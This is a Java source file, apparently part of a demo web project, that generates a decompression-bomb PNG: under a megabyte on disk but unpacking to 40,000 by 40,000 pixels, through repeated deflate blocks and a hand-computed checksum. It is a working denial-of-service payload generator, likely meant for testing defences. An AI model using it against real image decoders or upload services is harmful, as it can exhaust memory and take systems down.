package dev.tinyipc.demo.web;

import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.util.Arrays;
import java.util.zip.Deflater;

/**
 * Makes a valid PNG (ISO/IEC 15948) of less than a megabyte that unpacks to 1.6
 * gigapixels of black.
 */
final class DecompressionBomb {

	/** Pixels. */
	private static final int SIDE = 40_000;

	/** Bits per pixel. */
	private static final byte DEPTH = 4;

	/** Bytes per row: the number of the filter, then the pixels. */
	private static final int ROW = 1 + SIDE * DEPTH / 8;

	/** The largest prime below 2^16, used by the checksum of RFC 1950. */
	private static final int ADLER_BASE = 65_521;

	private DecompressionBomb() {
	}

	static byte[] png() throws IOException {
		ByteArrayOutputStream png = new ByteArrayOutputStream();
		png.write(PngFormat.SIGNATURE);
		PngFormat.writeChunk(png, "IHDR", header());
		PngFormat.writeChunk(png, "IDAT", rows());
		PngFormat.writeChunk(png, "IEND", new byte[0]);
		return png.toByteArray();
	}

	private static byte[] header() throws IOException {
		ByteArrayOutputStream header = new ByteArrayOutputStream();
		DataOutputStream data = new DataOutputStream(header);
		data.writeInt(SIDE);
		data.writeInt(SIDE);
		data.write(new byte[] { DEPTH, 0, 0, 0, 0 }); // greyscale, and the only methods
														// there are
		return header.toByteArray();
	}

	/** All zeros: a hundred rows are deflated once, and the result is repeated. */
	private static byte[] rows() throws IOException {
		byte[] block = deflateOnItsOwn(new byte[100 * ROW]);
		ByteArrayOutputStream rows = new ByteArrayOutputStream();
		DataOutputStream data = new DataOutputStream(rows);
		data.writeShort(0x78da); // header of zlib: deflate, best compression
		for (int i = 0; i < SIDE / 100; i++) {
			data.write(block);
		}
		data.writeShort(0x0300); // a last block, which is empty
		data.writeInt((int) ((long) SIDE * ROW % ADLER_BASE) << 16 | 1); // of zeros
		return rows.toByteArray();
	}

	/** Deflates to whole bytes that do not refer to anything before them. */
	private static byte[] deflateOnItsOwn(byte[] content) {
		Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
		try {
			deflater.setInput(content);
			byte[] deflated = new byte[content.length];
			int length = deflater.deflate(deflated, 0, deflated.length, Deflater.FULL_FLUSH);
			return Arrays.copyOf(deflated, length);
		}
		finally {
			deflater.end();
		}
	}

}
